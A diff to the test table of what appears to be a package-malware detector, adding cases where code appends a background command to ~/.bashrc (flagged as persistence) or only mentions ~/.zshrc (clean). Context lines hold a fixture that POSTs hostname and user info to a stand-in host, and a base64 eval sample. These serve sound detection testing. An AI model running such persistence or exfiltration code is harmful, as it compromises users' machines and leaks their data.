@@ -15,6 +15,8 @@ const withLoad = (files: LoadCode['files'], extra: Partial<LoadCode> = {}) => ev
 
 const SEND = "const os = require('os');\nrequire('https').request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify([os.hostname(), os.userInfo()]));";
 const SEND_WHEN_ASKED = `module.exports = function report() { ${SEND} };`;
+/** About 2,000 characters of top-level statements that write nothing and name no startup place. */
+const SPACER = Array.from({ length: 150 }, (_, i) => `const v${i} = ${i};`).join('\n');
 const DECODED = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());";
 
 checkTable(check, [
@@ -31,6 +33,20 @@ checkTable(check, [
     score: SUSPICIOUS_SCORE,
     messageId: 'suspicious',
     data: { flagged: ['lib/boot.js'], flags: ['decoded-eval'] },
+  },
+  {
+    name: 'the entry module appends to the shell startup file through a name holding its path: 10, held',
+    evidence: withLoad([js('index.js', `const fs = require('fs');\nconst rc = require('os').homedir() + '/.bashrc';\n${SPACER}\nfs.appendFileSync(rc, 'node ~/.x.js &');`)]),
+    score: SUSPICIOUS_SCORE,
+    messageId: 'suspicious',
+    data: { flagged: ['index.js'], flags: ['persistence'] },
+  },
+  {
+    name: 'a bundle that names ~/.zshrc in a settings hint, its file writes at load far away: left out',
+    evidence: withLoad([js('sdk.mjs', `import fs from 'fs';\nconst tips = { read: 'For example: Open(~/.zshrc)' };\n${SPACER}\nfs.writeFileSync(out, JSON.stringify(state));`)]),
+    score: null,
+    messageId: 'clean',
+    data: { files: ['sdk.mjs'] },
   },
   {
     name: 'an SDK that sends the host name only when its exported function is called: left out',
